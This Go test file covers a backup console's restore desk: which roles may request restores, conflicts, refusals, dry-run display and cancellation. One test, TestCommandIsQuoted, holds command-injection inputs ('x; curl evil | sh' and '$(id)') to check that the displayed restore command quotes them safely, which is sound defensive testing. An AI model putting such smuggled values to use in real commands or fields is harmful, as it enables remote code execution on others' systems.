package restoration

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"davit.dev/davit/internal/console/account"
	"davit.dev/davit/internal/console/audit"
	"davit.dev/davit/internal/console/entry"
	"davit.dev/davit/internal/console/fleet"
	"davit.dev/davit/internal/console/store"
	"davit.dev/davit/internal/uplink"
)

type desk struct {
	*Desk
	t       *testing.T
	project *store.Project
	known   fleet.Known
	now     time.Time
}

// newDesk is that of a project with shop, which east holds and lets the console
// restore, west as a copy alone: vera views, olaf operates, rita recovers.
func newDesk(t *testing.T) *desk {
	t.Helper()
	ctx := t.Context()
	c, err := store.Create(ctx, filepath.Join(t.TempDir(), "console"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	d := &desk{t: t, now: time.Date(2026, 11, 27, 4, 5, 6, 0, time.UTC)}
	if d.project, err = c.CreateProject(ctx, audit.Act{By: "user/anna", At: d.now}, "acme"); err != nil {
		t.Fatal(err)
	}
	for _, m := range []store.Member{{Name: "anna", Role: account.Admin}, {Name: "vera", Role: account.Viewer}, {Name: "olaf", Role: account.Operator}, {Name: "rita", Role: account.Recoverer}} {
		m.User = "id-" + m.Name
		if err := d.project.SetMember(ctx, audit.Act{By: "user/anna", At: d.now}, m); err != nil {
			t.Fatal(err)
		}
	}
	d.known = fleet.Known{
		Snapshot: &fleet.Snapshot{Applications: []fleet.Application{{Name: "shop", Site: "east", Epoch: 3, Points: []fleet.Point{{ID: "shop-2", Good: true}, {ID: "shop-1", Why: "quarantined"}}}}},
		Agents:   []fleet.Agent{{Site: "east", Connected: true, Restores: "all"}, {Site: "west", Connected: true, Restores: "clone"}, {Site: "north", Connected: true, Restores: "none"}, {Site: "south"}},
	}
	door := entry.NewDoor(c, account.Cost{Passes: 1, Memory: 64, Threads: 1}, func() time.Time { return d.now }, slog.New(slog.DiscardHandler))
	d.Desk = &Desk{Door: door, Fleet: func(*store.Project) fleet.Known { return d.known }}
	return d
}

func person(name string) entry.Who {
	return entry.Who{Name: "user/" + name, Session: &store.Session{User: store.User{ID: "id-" + name, Name: name}}}
}

func ask(id string) Ask {
	return Ask{ID: strings.Repeat("0", 16) + id, Application: "shop", Reason: "it burns"}
}

// take asks, while the site answers with a state.
func (d *desk) take(who entry.Who, a Ask, state string) (store.Restoration, error) {
	ctx, cancel := context.WithCancel(d.t.Context())
	ended := make(chan struct{})
	defer func() { cancel(); <-ended }()
	go func() {
		defer close(ended)
		for {
			changed := d.project.Changed()
			for _, site := range []string{"east", "west"} {
				if all, err := d.project.Unrestored(ctx, site, d.now); err == nil && len(all) > 0 && all[len(all)-1].State == "" {
					said := uplink.Restored{ID: all[len(all)-1].ID, State: state, Result: []byte(`{"restored":1}`)}
					_ = d.project.HearAgents(ctx, []store.Word{{Site: site, At: d.now, Restored: []uplink.Restored{said}}})
				}
			}
			select {
			case <-ctx.Done():
				return
			case <-changed:
			}
		}
	}()
	return d.Take(d.t.Context(), d.project, who, audit.Act{By: who.Name, At: d.now}, a)
}

// Who may recover restores, and nobody else; what is asked bears his name, and the
// epoch that the console saw.
func TestTake(t *testing.T) {
	d := newDesk(t)
	for _, name := range []string{"vera", "olaf"} {
		if _, err := d.take(person(name), ask("a"), uplink.Running); !errors.Is(err, entry.ErrForbidden) {
			t.Errorf("%s: %v", name, err)
		}
	}
	r, err := d.take(person("rita"), ask("a"), uplink.Running)
	if err != nil || r.State != uplink.Running || r.Site != "east" || r.Point != "shop-2" || !strings.Contains(string(r.Body), `"seen":3,"by":"rita@console/acme"`) {
		t.Fatalf("%+v %s, %v", r, r.Body, err)
	}
	if again, err := d.take(person("rita"), ask("a"), uplink.Failed); err != nil || again.Name != r.Name || again.State != uplink.Running {
		t.Errorf("%+v, %v", again, err)
	}
	other := ask("a")
	other.Existing = "exact"
	if got, err := d.take(person("rita"), other, uplink.Running); !errors.Is(err, store.ErrConflict) {
		t.Errorf("something else by the same id: %+v, %v", got, err)
	}
	if _, err := d.take(person("rita"), ask("b"), uplink.Running); !errors.Is(err, store.ErrConflict) {
		t.Errorf("another while it runs: %v", err)
	}
	dry := ask("c")
	dry.DryRun = true
	if r, err := d.take(person("rita"), dry, uplink.Planned); err != nil || string(r.Preview) != `{"restored":1}` {
		t.Errorf("a dry run while it runs: %+v, %v", r, err)
	}
	over := uplink.Restored{ID: r.ID, State: uplink.Completed, Result: []byte(`{"restored":9}`)}
	for range 2 { // the second says nothing new
		if err := d.project.HearAgents(t.Context(), []store.Word{{Site: "west", Restored: []uplink.Restored{over}}, {Site: "east", At: d.now, Restored: []uplink.Restored{over}}}); err != nil {
			t.Fatal(err)
		}
		over.State = uplink.Failed
	}
	if r, err = d.project.Restoration(t.Context(), r.ID); err != nil || r.State != uplink.Completed || string(r.Outcome) != `{"restored":9}` {
		t.Errorf("%+v, %v", r, err)
	}
	log, err := d.project.Audit(t.Context(), 0, 20)
	var acts []string
	for _, l := range log {
		if strings.HasPrefix(l.Action, "restore.") {
			acts = append(acts, l.Action+" "+l.By)
		}
	}
	if want := "[restore.completed agent/east restore.preview user/rita restore.running agent/east restore.request user/rita]"; err != nil || fmt.Sprint(acts) != want {
		t.Errorf("%v, want %s, %v", acts, want, err)
	}
}

// A restore of whose end no site tells any more is in the way of no other.
func TestLostRestore(t *testing.T) {
	d := newDesk(t)
	if _, err := d.take(person("rita"), ask("a"), uplink.Running); err != nil {
		t.Fatal(err)
	}
	for _, days := range []time.Duration{6, 2} {
		d.now = d.now.Add(days * 24 * time.Hour)
		_, err := d.take(person("rita"), ask("b"), uplink.Running)
		if gone := days == 2; gone != (err == nil) {
			t.Errorf("after %d days more: %v", days, err)
		}
	}
}

// What a link to the page holds is a word in the command that the page shows, never
// a command.
func TestCommandIsQuoted(t *testing.T) {
	a := Ask{Application: "shop", Point: "shop-2", Clone: true, Namespaces: map[string]string{"shop": "x; curl evil | sh"}, Existing: "$(id)"}
	if got, want := a.Command(), `davit restore shop-2 --as-clone --map-namespace 'shop=x; curl evil | sh' --existing '$(id)'`; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}

// What cannot be is refused before any site is asked, and said.
func TestRefused(t *testing.T) {
	d := newDesk(t)
	copied := func(a *Ask) { a.Clone, a.Namespaces = true, map[string]string{"shop": "shop-copy"} }
	for name, test := range map[string]struct {
		change func(*Ask)
		says   string // empty: it is asked
	}{
		"in place where it is held": {func(*Ask) {}, ""},
		"a copy there":              {copied, ""},
		"a copy elsewhere":          {func(a *Ask) { copied(a); a.Site = "west" }, ""},
		"in place elsewhere":        {func(a *Ask) { a.Site = "west" }, "only there it comes back in place"},
		"a site that lets nothing":  {func(a *Ask) { copied(a); a.Site = "north" }, "does not let the console restore"},
		"one that is away":          {func(a *Ask) { copied(a); a.Site = "south" }, "not connected"},
		"one that nobody knows":     {func(a *Ask) { copied(a); a.Site = "mars" }, "no agent of site mars"},
		"a point that is no good":   {func(a *Ask) { a.Point = "shop-1" }, "quarantined"},
		"a point that is not there": {func(a *Ask) { a.Point = "shop-9" }, "not found"},
		"no such application":       {func(a *Ask) { a.Application = "till" }, "not found"},
		"no such policy":            {func(a *Ask) { a.Existing = "burn" }, "only skip, update"},
		"a copy over others":        {func(a *Ask) { copied(a); a.Existing = "replace" }, "overwrites nothing"},
		"a copy in its place":       {func(a *Ask) { a.Clone = true }, "other namespaces"},
		"in place, renamed":         {func(a *Ask) { copied(a); a.Clone = false }, "keeps its namespaces"},
		"a name that is none":       {func(a *Ask) { copied(a); a.Namespaces["shop"] = "../x" }, "no name"},
		"an id that is none":        {func(a *Ask) { a.ID = "x" }, "id has other than"},
	} {
		a := ask("x")
		a.ID = fmt.Sprintf("%016d", len(name)) + strings.ReplaceAll(name, " ", "-")[:5]
		test.change(&a)
		a.DryRun = true
		r, err := d.take(person("rita"), a, uplink.Planned)
		if (err == nil) != (test.says == "") || err != nil && !strings.Contains(err.Error(), test.says) {
			t.Errorf("%s: %+v, %v", name, r, err)
		}
	}
}

// What a dry run found is shown to who may restore; what was never answered is said.
func TestShow(t *testing.T) {
	now := time.Date(2026, 11, 27, 4, 5, 6, 0, time.UTC)
	r := store.Restoration{Body: []byte(`{"by":"rita@console/acme","existing":"exact"}`), Application: "shop", Point: "shop-2", Until: now.Add(Life), Dry: true}
	for _, test := range []struct {
		later time.Duration
		dry   bool
		want  string
	}{{0, true, Waiting}, {Life, true, Waiting}, {time.Hour, true, Unknown}, {0, false, Waiting}, {Life, false, Unknown}} {
		r.Dry = test.dry
		if s, err := Show(r, now.Add(test.later), true); err != nil || s.State != test.want {
			t.Errorf("%+v: %+v, %v", test, s, err)
		}
	}
	r.Dry, r.State, r.Preview = true, uplink.Planned, []byte(`{"checks":[{"severity":"error"}]}`)
	whole, err := Show(r, now, true)
	part, err2 := Show(r, now, false)
	if err != nil || err2 != nil || !whole.Blocked() || part.Preview != nil || whole.Command != "davit restore shop-2 --existing exact --dry-run --diff" {
		t.Errorf("%+v, %+v, %v", whole, part, errors.Join(err, err2))
	}
	r.Outcome = []byte(`{"warnings":["Secret shop/planted is older"],"more":2}`)
	whole, err = Show(r, now, true)
	part, err2 = Show(r, now, false)
	if err != nil || err2 != nil || len(whole.Outcome.Warnings) != 1 || len(part.Outcome.Warnings) != 0 || part.Outcome.More != 3 {
		t.Errorf("%+v, %+v, %v", whole.Outcome, part.Outcome, errors.Join(err, err2))
	}
	r.Preview, r.Outcome = nil, nil
	if s, err := Show(r, now, true); err != nil || !strings.Contains(s.Why, "lost") {
		t.Errorf("%+v, %v", s, err)
	}
}

// What has not begun is taken back by who may restore; what has begun is not, nor what an
// agent would begin that knows nothing of that.
func TestCancel(t *testing.T) {
	d := newDesk(t)
	hear := func(r store.Restoration, state, result string) {
		t.Helper()
		said := uplink.Restored{ID: r.ID, State: state, Result: []byte(result)}
		if err := d.project.HearAgents(t.Context(), []store.Word{{Site: "east", At: d.now, Restored: []uplink.Restored{said}}}); err != nil {
			t.Fatal(err)
		}
	}
	cancel := func(who, id string) (Shown, error) {
		t.Helper()
		r, err := d.Cancel(t.Context(), d.project, person(who), audit.Act{By: "user/" + who, At: d.now}, id)
		if err != nil {
			return Shown{}, err
		}
		s, err := Show(r, d.now, true)
		return s, err
	}
	r, err := d.take(person("rita"), ask("a"), uplink.Running)
	if err != nil {
		t.Fatal(err)
	}
	if s, err := Show(r, d.now, true); err != nil || !s.Cancelable || s.Canceling {
		t.Errorf("%+v, %v", s, err)
	}
	if _, err := cancel("rita", r.ID); !errors.Is(err, store.ErrRefused) {
		t.Errorf("an old agent would begin it: %v", err)
	}
	d.known.Agents[0].Cancels = true
	if _, err := cancel("olaf", r.ID); !errors.Is(err, entry.ErrForbidden) {
		t.Errorf("%v", err)
	}
	hear(r, uplink.Running, `{"started":"2026-01-02T03:04:05Z"}`)
	if s, err := cancel("rita", r.ID); err != nil || s.Over || s.Cancelable || s.Canceling || !strings.Contains(s.Why, "goes on") {
		t.Errorf("%+v, %v", s, err)
	}
	hear(r, uplink.Completed, `{}`)
	if _, err := cancel("rita", r.ID); !errors.Is(err, store.ErrRefused) {
		t.Errorf("what is over: %v", err)
	}
	if r, err = d.take(person("rita"), ask("b"), uplink.Running); err != nil {
		t.Fatal(err)
	}
	synced := make(chan struct{})
	go func() {
		defer close(synced)
		for { // until the site is asked
			changed := d.project.Changed()
			all, err := d.project.Unrestored(t.Context(), "east", d.now)
			if err != nil || len(all) == 1 && strings.Contains(string(all[0].Body), `"cancel":true`) {
				_ = d.project.HearAgents(t.Context(), []store.Word{{Site: "east", At: d.now, Restored: []uplink.Restored{{ID: r.ID, State: uplink.Canceled}}}})
				return
			}
			<-changed
		}
	}()
	s, err := cancel("rita", r.ID)
	<-synced
	if err != nil || s.State != uplink.Canceled || !s.Over {
		t.Errorf("%+v, %v", s, err)
	}
	if again, err := d.take(person("rita"), ask("b"), uplink.Running); err != nil || again.State != uplink.Canceled {
		t.Errorf("the same again is another: %+v, %v", again, err)
	}
}
